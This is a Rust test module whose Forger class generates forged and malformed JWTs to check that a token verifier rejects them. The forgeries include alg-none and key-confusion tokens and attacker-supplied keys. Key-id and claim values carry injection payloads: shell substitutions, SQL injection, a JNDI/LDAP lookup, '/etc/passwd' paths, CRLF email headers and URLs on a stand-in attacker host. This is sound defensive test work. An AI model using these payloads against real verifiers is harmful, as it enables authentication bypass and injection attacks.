//! Makes tokens that nobody may take.

use super::*;

pub(super) type Forgeries = Vec<(String, String)>;

/// Makes tokens that none may take, for an installation whose keys it has in order to sign properly what is
/// wrong in one place only.
pub(super) struct Forger<'a> {
    keys: &'a KeySet,
    header: Value,
    claims: Value,
    pub(super) genuine: String,
}

impl<'a> Forger<'a> {
    pub(super) fn new(keys: &'a KeySet) -> Self {
        let (header, claims) = (good_header(keys.signing(NOW).unwrap()), good_claims());
        let genuine = sign_with(keys.signing(NOW).unwrap(), &header.to_string(), &claims.to_string());
        Self { keys, header, claims, genuine }
    }

    pub(super) fn forge(&self, foreign: &[Arc<KeySet>]) -> Forgeries {
        [
            self.unsigned(),
            self.misnamed_algorithms(),
            self.confused_keys(),
            self.foreign_keys(foreign),
            self.key_ids(),
            self.headers(),
            self.claims_missing_or_of_another_type(),
            self.claims_out_of_place(),
            self.doubled_members(),
            self.damaged(),
            self.transplanted(),
        ]
        .concat()
    }

    /// Signed with the right key.
    fn signed(&self, header: &Value, claims: &Value) -> String {
        sign_with(self.keys.signing(NOW).unwrap(), &header.to_string(), &claims.to_string())
    }

    fn with_header(&self, member: &str, value: &Value) -> (String, String) {
        let header = with(&self.header, member, value.clone());
        (format!("header {header}"), self.signed(&header, &self.claims))
    }

    fn with_claim(&self, member: &str, value: &Value) -> (String, String) {
        let claims = with(&self.claims, member, value.clone());
        (format!("claim {member}: {value}"), self.signed(&self.header, &claims))
    }

    fn unsigned(&self) -> Forgeries {
        let genuine_signature = self.genuine.rsplit_once('.').unwrap().1;
        let mut forgeries = Vec::new();
        for name in ["none", "None", "NONE", "nOnE", "noNe", "none ", " none", "", "null", "NoNe\u{0}"] {
            let header = with(&self.header, "alg", json!(name));
            let message = message(&header.to_string(), &self.claims.to_string());
            for signature in ["", "AA", genuine_signature] {
                forgeries.push((format!("alg {name:?}, signature {signature:?}"), format!("{message}.{signature}")));
            }
            let anonymous = without(&header, "kid").to_string();
            forgeries.push((format!("alg {name:?}, no kid"), self::message(&anonymous, "{}") + "."));
        }
        forgeries
    }

    fn misnamed_algorithms(&self) -> Forgeries {
        let own = self.keys.signing(NOW).unwrap().algorithm.as_str();
        let (lower, upper) = (own.to_lowercase(), own.to_uppercase());
        let names = [
            "HS256", "HS384", "HS512", "RS256", "RS384", "RS512", "PS256", "PS384", "PS512", "ES256", "ES384", "ES512",
            "ES256K", "EdDSA", "Ed25519", "Ed448", "RSA1_5", "A128KW", "dir", &lower, &upper,
        ];
        let others = names.iter().filter(|name| **name != own).map(|name| json!(name));
        let others = others.chain([Value::Null, json!(0), json!(true), json!([own]), json!({"alg": own})]);
        let mut forgeries: Forgeries = others.map(|name| self.with_header("alg", &name)).collect();
        forgeries.push(("no alg".to_owned(), self.signed(&without(&self.header, "alg"), &self.claims)));
        forgeries
    }

    /// What is public, or easily guessed, used as the secret of an HMAC.
    fn confused_keys(&self) -> Forgeries {
        let id = self.keys.signing(NOW).unwrap().id.as_str();
        let guesses = [b"\0".as_slice(), b"secret", b"changeme", b"doorward", ISSUER.as_bytes(), id.as_bytes()];
        let secrets = public_forms(self.keys).into_iter().chain(guesses.map(<[u8]>::to_vec));
        let mut forgeries = Vec::new();
        for (n, secret) in secrets.enumerate() {
            let key = EncodingKey::from_secret(&secret);
            for (name, algorithm) in
                [("HS256", Algorithm::HS256), ("HS384", Algorithm::HS384), ("HS512", Algorithm::HS512)]
            {
                for claimed in [name, self.keys.signing(NOW).unwrap().algorithm.as_str()] {
                    let header = with(&self.header, "alg", json!(claimed));
                    let message = message(&header.to_string(), &self.claims.to_string());
                    forgeries.push((format!("alg {claimed}, {name} with secret {n}"), sign(&message, &key, algorithm)));
                }
            }
        }
        forgeries
    }

    /// An attacker's own keys, under any name and brought along in any way.
    fn foreign_keys(&self, foreign: &[Arc<KeySet>]) -> Forgeries {
        let claims = self.claims.to_string();
        let mut forgeries = Vec::new();
        for keys in foreign {
            let key = keys.signing(NOW).unwrap();
            let named_own = with(&good_header(key), "kid", json!(self.keys.signing(NOW).unwrap().id.as_str()));
            let mut headers = vec![good_header(key), named_own, self.header.clone()];
            headers.push(without(&self.header, "kid"));
            headers.push(without(&good_header(key), "kid"));
            for base in headers.clone() {
                headers.extend(brought_along(keys).into_iter().map(|(member, value)| with(&base, member, value)));
            }
            for header in headers {
                let header = header.to_string();
                forgeries.push((format!("foreign {header}"), sign_with(key, &header, &claims)));
            }
        }
        forgeries
    }

    fn key_ids(&self) -> Forgeries {
        let own = self.keys.signing(NOW).unwrap().id.as_str();
        let near = [
            format!("{own} "),
            format!(" {own}"),
            format!("{own}\0"),
            format!("{own}="),
            format!("./{own}"),
            own.to_uppercase(),
            own.to_lowercase() + "x",
            own[1..].to_owned(),
        ];
        let tricks = [
            "",
            " ",
            "0",
            "default",
            "null",
            "undefined",
            "*",
            ".*",
            "%",
            "../../../../../../dev/null",
            "/dev/null",
            "file:///etc/passwd",
            "https://evil.example/jwks.json",
            "' OR '1'='1",
            "x' UNION SELECT 'secret",
            "1; DROP TABLE signing_keys; --",
            "|| whoami",
            "$(id)",
            "${jndi:ldap://evil.example}",
            "\u{0}",
        ];
        let texts = near.iter().map(String::as_str).chain(tricks).map(|kid| json!(kid));
        let others = [Value::Null, json!(0), json!(1.5), json!(false), json!([]), json!([own]), json!({"kid": own})];
        let mut forgeries: Forgeries = texts.chain(others).map(|kid| self.with_header("kid", &kid)).collect();
        forgeries.push(("no kid".to_owned(), self.signed(&without(&self.header, "kid"), &self.claims)));
        forgeries
    }

    /// Of another type of token, or with an extension that must be understood.
    fn headers(&self) -> Forgeries {
        let types = [
            "JWT",
            "jwt",
            "at+JWT",
            "AT+JWT",
            "At+Jwt",
            "application/at+jwt",
            "id+jwt",
            "dpop+jwt",
            "logout+jwt",
            "",
            " at+jwt",
            "at+jwt ",
            "at jwt",
        ];
        let types = types.iter().map(|typ| json!(typ));
        let types = types.chain([Value::Null, json!(1), json!(true), json!(["at+jwt"]), json!({})]);
        let mut forgeries: Forgeries = types.map(|typ| self.with_header("typ", &typ)).collect();
        forgeries.push(("no typ".to_owned(), self.signed(&without(&self.header, "typ"), &self.claims)));
        for crit in [json!(["exp"]), json!(["b64"]), json!(["urn:x"]), json!([]), Value::Null, json!("exp"), json!({})]
        {
            forgeries.push(self.with_header("crit", &crit));
        }
        let unencoded = with(&with(&self.header, "crit", json!(["b64"])), "b64", json!(false));
        forgeries.push(("b64".to_owned(), self.signed(&unencoded, &self.claims)));
        for header in ["", "{}", "[]", "null", "\"at+jwt\"", "0", "{", "\u{feff}{}"] {
            let token = sign_with(self.keys.signing(NOW).unwrap(), header, &self.claims.to_string());
            forgeries.push((format!("header {header:?}"), token));
        }
        let trailing = format!("{}{}", self.header, "{}");
        let token = sign_with(self.keys.signing(NOW).unwrap(), &trailing, &self.claims.to_string());
        forgeries.push(("something after the header".to_owned(), token));
        forgeries
    }

    fn claims_missing_or_of_another_type(&self) -> Forgeries {
        let mut forgeries = Vec::new();
        for (member, value) in self.claims.as_object().unwrap() {
            forgeries.push((format!("no {member}"), self.signed(&self.header, &without(&self.claims, member))));
            let mut others = vec![Value::Null, json!(1.5), json!([value]), json!({"value": value})];
            match value {
                Value::String(_) => others.extend([json!(true), json!(12), json!([])]),
                Value::Number(_) => {
                    let moment = value.as_i64().unwrap();
                    others.extend([json!(true), json!(""), json!(moment.to_string()), json!(u64::MAX)]);
                    others.extend([json!(NOW.plus(600 * SECOND).to_rfc3339()), serde_json::from_str("1.8e9").unwrap()]);
                }
                Value::Bool(_) => others.extend([json!(0), json!(1), json!("true"), json!("")]),
                _ => others.extend([json!(true), json!(12), json!("pwd"), json!([1]), json!([null]), json!([["pwd"]])]),
            }
            if ["sub", "jti", "sid"].contains(&member.as_str()) {
                others.extend([json!(""), json!("me"), json!("ada@example.com"), json!(vec![0; 16])]);
            }
            forgeries.extend(others.iter().map(|other| self.with_claim(member, other)));
        }
        for claims in ["", "{}", "[]", "null", "{", "\"\"", "\u{feff}{}"] {
            let token = sign_with(self.keys.signing(NOW).unwrap(), &self.header.to_string(), claims);
            forgeries.push((format!("claims {claims:?}"), token));
        }
        let trailing = format!("{}{}", self.claims, "{}");
        let token = sign_with(self.keys.signing(NOW).unwrap(), &self.header.to_string(), &trailing);
        forgeries.push(("something after the claims".to_owned(), token));
        forgeries
    }

    /// For another time or another place.
    fn claims_out_of_place(&self) -> Forgeries {
        let now = NOW.unix_seconds();
        let cases = [
            ("exp", vec![json!(now - 30), json!(now - 31), json!(now - 86_400), json!(0), json!(-1), json!(i64::MIN)]),
            ("iat", vec![json!(now + 31), json!(now + 3_600), json!(i64::MAX)]),
            ("nbf", vec![json!(now + 31), json!(now + 3_600), json!(i64::MAX)]),
            ("iss", foreign_urls(ISSUER)),
            ("aud", foreign_urls(AUDIENCE)),
            ("aud", vec![json!([AUDIENCE, "https://evil.example"]), json!({AUDIENCE: true})]),
            ("iss", vec![json!([ISSUER, "https://evil.example"])]),
            ("email", vec![json!(""), json!("ada"), json!("ada@example.com\r\nBcc: eve@evil.example")]),
        ];
        let cases = cases.iter().flat_map(|(member, values)| values.iter().map(move |value| (*member, value)));
        cases.map(|(member, value)| self.with_claim(member, value)).collect()
    }

    /// RFC 8725 section 2.7: two parsers that disagree on which of two members counts.
    fn doubled_members(&self) -> Forgeries {
        let mut forgeries = Vec::new();
        for (member, value) in self.header.as_object().unwrap() {
            for other in [value.clone(), json!("none"), Value::Null] {
                for header in doubled(&self.header, member, &other) {
                    let token = sign_with(self.keys.signing(NOW).unwrap(), &header, &self.claims.to_string());
                    forgeries.push((format!("header {header}"), token));
                }
            }
        }
        for (member, value) in self.claims.as_object().unwrap() {
            for claims in doubled(&self.claims, member, value) {
                let token = sign_with(self.keys.signing(NOW).unwrap(), &self.header.to_string(), &claims);
                forgeries.push((format!("{member} twice"), token));
            }
        }
        forgeries
    }

    /// The genuine token, cut, stretched or changed.
    fn damaged(&self) -> Forgeries {
        let genuine = self.genuine.as_str();
        let parts: Vec<&str> = genuine.split('.').collect();
        let (header, claims, signature) = (parts[0], parts[1], parts[2]);
        let zeros = URL_SAFE_NO_PAD.encode(vec![0_u8; URL_SAFE_NO_PAD.decode(signature).unwrap().len()]);
        let mut tokens: Vec<String> = ["", ".", "..", "...", "a.b.c", "null", "{}"].map(str::to_owned).into();
        tokens.extend([
            format!("{header}.{claims}"),
            format!("{header}.{claims}."),
            format!("{header}.{claims}.{zeros}"),
            format!("{header}.{claims}.{signature}{signature}"),
            format!("{header}..{signature}"),
            format!(".{claims}.{signature}"),
            format!("..{signature}"),
            format!("{claims}.{header}.{signature}"),
            format!("{signature}.{claims}.{header}"),
            format!("{header}=.{claims}.{signature}"),
            format!("{header}.{claims}=.{signature}"),
            format!("{header}.{claims}=={signature}"),
            format!("{header} .{claims}.{signature}"),
            format!("{header}.\n{claims}.{signature}"),
            format!("{header}%2e{claims}%2e{signature}"),
            format!("{{\"protected\":\"{header}\",\"payload\":\"{claims}\",\"signature\":\"{signature}\"}}"),
            format!("Bearer {genuine}"),
            format!("{genuine}.{signature}"),
            format!("{genuine}.{claims}.{signature}"),
            genuine.to_lowercase(),
            genuine.replace('.', ","),
            format!("{genuine}{}", "A".repeat(LONGEST_TOKEN)),
        ]);
        for edge in [".", "=", "==", " ", "\n", "\r\n", "\t", "\u{0}", "\u{feff}", "!", "+", "/", "é", "%", "A", "AA"]
        {
            tokens.push(format!("{genuine}{edge}"));
            tokens.push(format!("{edge}{genuine}"));
        }
        tokens.extend((1..=8).map(|cut| genuine[..genuine.len() - cut].to_owned()));
        tokens.extend((1..genuine.len()).step_by(37).map(|end| genuine[..end].to_owned()));
        for at in (0..genuine.len()).step_by(29).chain([genuine.len() - 1]) {
            let replacement = if genuine[at..].starts_with('B') { "C" } else { "B" };
            tokens.push(format!("{}{replacement}{}", &genuine[..at], &genuine[at + 1..]));
        }
        tokens.into_iter().map(|token| ("damaged".to_owned(), token)).collect()
    }

    /// Parts of genuine tokens put together anew.
    fn transplanted(&self) -> Forgeries {
        let (genuine_message, signature) = self.genuine.rsplit_once('.').unwrap();
        let mut forgeries = Vec::new();
        for (member, value) in [
            ("roles", json!(["admin"])),
            ("sub", json!(Uuid::from_u128(9).to_string())),
            ("sid", json!(Uuid::from_u128(9).to_string())),
            ("jti", json!(Uuid::from_u128(9).to_string())),
            ("exp", json!(NOW.unix_seconds() + 86_400)),
            ("email", json!("eve@evil.example")),
            ("email_verified", json!(false)),
        ] {
            let changed = with(&self.claims, member, value);
            let message = message(&self.header.to_string(), &changed.to_string());
            forgeries.push((format!("another {member}"), format!("{message}.{signature}")));
            let other = self.signed(&self.header, &changed);
            let other_signature = other.rsplit_once('.').unwrap().1;
            forgeries.push((format!("signature of another {member}"), format!("{genuine_message}.{other_signature}")));
        }
        forgeries
    }
}

/// The ways in which a token can bring a key along or point at one.
pub(super) fn brought_along(keys: &KeySet) -> Vec<(&'static str, Value)> {
    let set: Value = serde_json::from_str(&keys.jwks).unwrap();
    let jwk = set["keys"].get(0).cloned().unwrap_or_else(|| json!({"kty": "oct", "k": "c2VjcmV0"}));
    vec![
        ("jwk", jwk),
        ("jku", json!("https://evil.example/.well-known/jwks.json")),
        ("x5u", json!("https://evil.example/chain.pem")),
        ("x5c", json!(["MIIBszCCAVmgAwIBAgIUQ0FGRUJBQkU="])),
    ]
}

/// What an address of this service might be mistaken for.
fn foreign_urls(own: &str) -> Vec<Value> {
    let near = [
        format!("{own}/"),
        format!("{own}.evil.example"),
        format!("{own}@evil.example"),
        format!(" {own}"),
        format!("{own}\0"),
        own.to_uppercase(),
        own.replace("https", "http"),
        own[..own.len() - 1].to_owned(),
    ];
    near.iter().map(String::as_str).chain(["", "*", "https://evil.example", "doorward"]).map(|url| json!(url)).collect()
}

/// The object with a member twice: once as it is, and before or after it with this value.
fn doubled(object: &Value, member: &str, value: &Value) -> [String; 2] {
    let text = object.to_string();
    let inner = &text[1..text.len() - 1];
    [format!("{{\"{member}\":{value},{inner}}}"), format!("{{{inner},\"{member}\":{value}}}")]
}

/// The public key in the forms that people put into files: raw, DER, PEM, JWK. None for a shared secret.
fn public_forms(keys: &KeySet) -> Vec<Vec<u8>> {
    const ED25519: &[u8] = &[0x30, 0x2a, 0x30, 0x05, 0x06, 0x03, 0x2b, 0x65, 0x70, 0x03, 0x21, 0x00];
    const P256: &[u8] = &[
        0x30, 0x59, 0x30, 0x13, 0x06, 0x07, 0x2a, 0x86, 0x48, 0xce, 0x3d, 0x02, 0x01, 0x06, 0x08, 0x2a, 0x86, 0x48,
        0xce, 0x3d, 0x03, 0x01, 0x07, 0x03, 0x42, 0x00, 0x04,
    ];
    const RSA_3072: &[u8] = &[
        0x30, 0x82, 0x01, 0xa2, 0x30, 0x0d, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x01, 0x01, 0x05,
        0x00, 0x03, 0x82, 0x01, 0x8f, 0x00, 0x30, 0x82, 0x01, 0x8a, 0x02, 0x82, 0x01, 0x81, 0x00,
    ];
    const RSA_3072_END: &[u8] = &[0x02, 0x03, 0x01, 0x00, 0x01];

    let set: Value = serde_json::from_str(&keys.jwks).unwrap();
    let Some(jwk) = set["keys"].get(0) else { return Vec::new() };
    let member = |name: &str| URL_SAFE_NO_PAD.decode(jwk[name].as_str().unwrap()).unwrap();
    let (raw, der) = match jwk["kty"].as_str().unwrap() {
        "OKP" => (member("x"), [ED25519, &member("x")].concat()),
        "EC" => (member("x"), [P256, &member("x"), &member("y")].concat()),
        "RSA" => (member("n"), [RSA_3072, &member("n"), RSA_3072_END].concat()),
        other => panic!("{other} is not published"),
    };
    let lines: Vec<String> =
        STANDARD.encode(&der).as_bytes().chunks(64).map(|line| String::from_utf8_lossy(line).into_owned()).collect();
    let pem = format!("-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----", lines.join("\n"));
    let texts = [pem.clone() + "\n", pem.replace('\n', "\r\n"), pem, jwk.to_string(), keys.jwks.clone()];
    let encoded = [STANDARD.encode(&der), URL_SAFE_NO_PAD.encode(&raw)];
    [raw, der].into_iter().chain(texts.into_iter().chain(encoded).map(String::into_bytes)).collect()
}
